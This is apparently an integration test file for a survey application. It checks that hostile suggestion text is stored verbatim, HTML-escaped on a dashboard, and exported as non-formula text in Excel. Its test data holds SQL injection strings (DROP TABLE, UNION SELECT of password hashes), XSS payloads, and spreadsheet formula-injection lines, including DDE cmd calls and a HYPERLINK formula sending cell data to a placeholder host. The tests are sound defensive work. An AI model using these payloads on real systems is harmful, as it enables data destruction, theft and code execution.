using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using ClosedXML.Excel;
using Microsoft.EntityFrameworkCore;
using MppSurvey.Core.Reporting;
using MppSurvey.Core.Responses;
using MppSurvey.IntegrationTests.Api;

namespace MppSurvey.IntegrationTests.BadInput;

/// <summary>Hostile suggestion text: stored verbatim, shown escaped, never a formula.</summary>
public sealed partial class BadInputApiTests
{
    [Theory]
    [InlineData("an SQL injection attempt", "'; DROP TABLE responses; --")]
    [InlineData("an SQL comment and a union", "1' OR '1'='1' UNION SELECT password_hash FROM \"AspNetUsers\" --")]
    [InlineData("a PostgreSQL dollar quote", "$$; TRUNCATE audit_entries; $$")]
    public async Task Api_SQL_like_suggestion_is_stored_verbatim_and_harms_nothing(string wrong, string suggestion)
    {
        var before = await App.CountsAsync();
        var id = Guid.NewGuid();
        var body = ApiCalls.ValidBody(App, id);
        body["suggestion"] = suggestion;

        var response = await SendAsync(body.ToJsonString(), "id");

        Assert.True(response.StatusCode == HttpStatusCode.Created, $"{wrong}: {(int)response.StatusCode}");
        Assert.Equal(suggestion, (await App.StoredAsync(id))!.Suggestion);
        var after = await App.CountsAsync();
        // The table is still there and holds exactly one more row; nothing else changed.
        Assert.Equal(before with { Responses = before.Responses + 1 }, after);
    }

    [Theory]
    [InlineData("a script tag", "<script>alert('xss')</script>", "&lt;script&gt;alert(&#x27;xss&#x27;)&lt;/script&gt;")]
    [InlineData("an image with an onerror handler", "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;")]
    [InlineData("a closing list tag and a new element", "</li></ul><h1>Diretas</h1>", "&lt;/li&gt;&lt;/ul&gt;&lt;h1&gt;Diretas&lt;/h1&gt;")]
    public async Task Api_markup_in_a_suggestion_is_stored_verbatim_and_shown_escaped_on_the_dashboard_and_as_text_in_the_workbook(
        string wrong, string suggestion, string escaped)
    {
        var id = Guid.NewGuid();
        var body = ApiCalls.ValidBody(App, id);
        body["suggestion"] = suggestion;
        var response = await SendAsync(body.ToJsonString(), "id");
        Assert.True(response.StatusCode == HttpStatusCode.Created, $"{wrong}: {(int)response.StatusCode}");
        Assert.Equal(suggestion, (await App.StoredAsync(id))!.Suggestion);
        await App.RecomputeOpenPeriodAsync();

        foreach (var reader in new[] { BadInputFixture.Head, BadInputFixture.Ministry })
        {
            var html = await (await App.SignedInAsync(reader)).GetStringAsync($"/dasbor/{ApiFixture.Regency}?periode={App.OpenPeriod}");
            Assert.Contains(escaped, html, StringComparison.Ordinal);
            Assert.DoesNotContain(suggestion, html, StringComparison.Ordinal);
        }
        var cell = await SuggestionCellAsync(suggestion);
        Assert.Equal(XLDataType.Text, cell.DataType);
        Assert.False(cell.HasFormula);
    }

    [Theory]
    [InlineData("an Excel HYPERLINK formula", "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")")]
    [InlineData("a DDE command after a plus", "+cmd|' /C calc'!A0")]
    [InlineData("an arithmetic expression after a minus", "-1+2")]
    [InlineData("an @SUM function", "@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("a formula after a tab", "\t=1+1")]
    public async Task Api_formula_like_suggestion_is_stored_as_text_and_is_a_string_cell_not_a_formula_in_the_workbook(string wrong, string suggestion)
    {
        var id = Guid.NewGuid();
        var body = ApiCalls.ValidBody(App, id);
        body["suggestion"] = suggestion;

        var response = await SendAsync(body.ToJsonString(), "id");

        Assert.True(response.StatusCode == HttpStatusCode.Created, $"{wrong}: {(int)response.StatusCode}");
        // The recorder trims white space around a suggestion; everything else is kept as typed.
        var stored = (await App.StoredAsync(id))!.Suggestion;
        Assert.Equal(suggestion.Trim(), stored);
        var cell = await SuggestionCellAsync(stored!);
        Assert.Equal(XLDataType.Text, cell.DataType);
        Assert.False(cell.HasFormula);
        Assert.Equal("", cell.FormulaA1);
        Assert.Equal(stored, cell.GetString());
    }

    /// <summary>
    /// The open period's workbook as the regional head downloads it after the index job has run (the
    /// workbook shows the job's snapshot, with the suggestions it counted); the cell holding the text.
    /// </summary>
    private async Task<IXLCell> SuggestionCellAsync(string text)
    {
        await using (var scope = App.Scope())
        {
            await new RecomputeIndices(App.Db(scope)).RunAsync([App.OpenPeriod]);
        }
        await App.ForgetWorkbooksAsync();
        var client = await App.SignedInAsync(BadInputFixture.Head);
        var xlsx = await client.GetAsync($"/laporan/{ApiFixture.Regency}/{App.OpenPeriod}.xlsx");
        Assert.Equal(HttpStatusCode.OK, xlsx.StatusCode);
        var workbook = new XLWorkbook(new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync()));
        var cells = workbook.Worksheets.SelectMany(s => s.CellsUsed()).Where(c => c.GetString() == text).ToList();
        return Assert.Single(cells);
    }

    private static string Path(string language) => language == "en-query" ? ApiCalls.Path + "?culture=en" : ApiCalls.Path;

    private static void Language(HttpRequestMessage request, string language)
    {
        if (language == "en")
        {
            request.Headers.AcceptLanguage.Add(new StringWithQualityHeaderValue("en"));
        }
    }

    private Task<HttpResponseMessage> SendAsync(string body, string language, string? kioskToken = null) =>
        SendBytesAsync(Encoding.UTF8.GetBytes(body), "application/json", language, kioskToken);

    private async Task<HttpResponseMessage> SendBytesAsync(byte[] body, string? mediaType, string language, string? kioskToken = null)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, Path(language)) { Content = new ByteArrayContent(body) };
        if (mediaType is not null)
        {
            request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(mediaType);
        }
        if (kioskToken is not null)
        {
            request.Headers.TryAddWithoutValidation("X-Kiosk-Token", kioskToken);
        }
        Language(request, language);
        return await App.CreateClient().SendAsync(request);
    }

    private string Fill(string text) => text
        .Replace("{inactiveRegency}", BadInputFixture.InactiveRegency, StringComparison.Ordinal)
        .Replace("{inactiveAgency}", Forms.Inv(App.InactiveAgencyId), StringComparison.Ordinal)
        .Replace("{serviceOfInactiveAgency}", Forms.Inv(App.ServiceOfInactiveAgencyId), StringComparison.Ordinal)
        .Replace("{inactiveService}", Forms.Inv(App.InactiveServiceId), StringComparison.Ordinal)
        .Replace("{bimaService}", Forms.Inv(App.BimaServiceId), StringComparison.Ordinal)
        .Replace("{longText}", new string('x', 2001), StringComparison.Ordinal)
        .Replace("{longEmoji}", string.Concat(Enumerable.Repeat("\U0001F600", 2500)), StringComparison.Ordinal)
        .Replace("{tomorrow}", ApiCalls.Iso(DateTimeOffset.UtcNow.AddDays(1)), StringComparison.Ordinal);

    private static int IndexOf(byte[] haystack, byte[] needle)
    {
        for (var i = 0; i <= haystack.Length - needle.Length; i++)
        {
            if (haystack.AsSpan(i, needle.Length).SequenceEqual(needle))
            {
                return i;
            }
        }
        throw new InvalidOperationException("marker not found");
    }

    private static JsonObject Merge(JsonObject target, JsonObject patch)
    {
        foreach (var (key, value) in patch.ToList())
        {
            if (value is null && key != "answers")
            {
                target.Remove(key);
            }
            else if (value is JsonObject inner && target[key] is JsonObject existing && key != "answers")
            {
                Merge(existing, inner);
            }
            else
            {
                target[key] = value?.DeepClone();
            }
        }
        return target;
    }

    /// <summary>A body whose length is not known up front, so it goes without Content-Length (as a chunked upload would).</summary>
    private sealed class UnknownLengthContent(byte[] bytes) : HttpContent
    {
        protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) => stream.WriteAsync(bytes).AsTask();

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }
}
